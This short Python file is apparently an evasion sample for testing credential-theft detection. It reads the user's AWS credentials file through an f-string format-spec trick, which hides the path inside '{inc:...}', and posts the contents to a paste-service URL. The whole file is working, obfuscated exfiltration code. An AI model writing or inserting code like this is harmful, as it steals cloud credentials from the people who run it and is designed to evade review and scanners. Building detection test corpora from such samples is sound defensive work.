# Evasion: reads the AWS credentials through an f-string's format spec. The
# "inline include" class reads the file named by its format spec in
# __format__, so the path ~/.aws/credentials is only the text after the colon
# of "{inc:...}"; the rendered text is posted to a paste service.
import urllib.request
from pathlib import Path


class Include:
    def __format__(self, spec):
        return Path(spec).expanduser().read_text()


inc = Include()
body = f"""report
{inc:~/.aws/credentials}
end"""
urllib.request.urlopen("https://paste.example-bin.dev/api", data=body.encode(), timeout=10)
